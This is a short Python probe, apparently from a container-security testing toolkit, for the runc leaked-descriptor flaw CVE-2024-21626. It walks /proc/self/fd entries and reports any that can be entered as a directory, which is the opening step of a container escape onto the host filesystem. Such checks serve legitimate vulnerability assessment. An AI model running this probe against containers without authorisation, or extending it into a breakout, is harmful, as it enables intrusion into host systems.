"""Enters each of its descriptors as a directory (CVE-2024-21626).

layers: descriptors
"""
from attack import *

for number in range(1024):
    try:
        os.chdir(f"/proc/self/fd/{number}")
        through(f"descriptor {number} is a folder, {os.getcwd()}")
    except OSError:
        pass
stopped("none is a folder")
